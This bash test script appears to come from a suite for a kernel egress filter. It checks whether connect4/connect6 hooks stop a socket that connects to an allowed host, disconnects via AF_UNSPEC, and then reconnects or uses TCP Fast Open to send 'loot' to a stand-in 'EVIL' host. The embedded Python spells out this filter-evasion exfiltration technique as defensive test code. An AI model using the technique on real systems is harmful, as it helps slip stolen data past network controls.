#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: connects to an allowed host, exchanges much, disconnects by AF_UNSPEC and connects the same socket elsewhere
# stopped-by: connect4, connect6
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000
client sysctl -qw net.ipv4.tcp_fastopen=0x5 || skip "no TCP Fast Open in this kernel"
server sysctl -qw net.ipv4.tcp_fastopen=0x602

attack_by <<'PYTHON'
from attacker import *

def turn(sock, good, evil, port, tag):
    with attempt(tag):
        sock.settimeout(1)
        sock.connect((good, port))
        for _ in range(300): # long enough for a verdict to be remembered
            sock.send(b"so far all right ")
        disconnect(sock)
        sock.connect((evil, port))
        sock.send(loot(tag))

turn(tcp(GOOD4), GOOD4, EVIL4, 443, "tcp4")
turn(tcp(GOOD6), GOOD6, EVIL6, 443, "tcp6")
turn(udp(GOOD4), GOOD4, EVIL4, 9000, "udp4")
turn(udp(GOOD6), GOOD6, EVIL6, 9000, "udp6")
with attempt("fast open"):
    sock = tcp(GOOD4)
    sock.connect((GOOD4, 443))
    disconnect(sock)
    sock.sendto(loot("fast-open"), socket.MSG_FASTOPEN, (EVIL4, 443))
PYTHON
works stolen:tcp4 stolen:tcp6 stolen:udp4 stolen:udp6 stolen:fast-open
gate
stopped
recorded connect4 destination
recorded connect6 destination
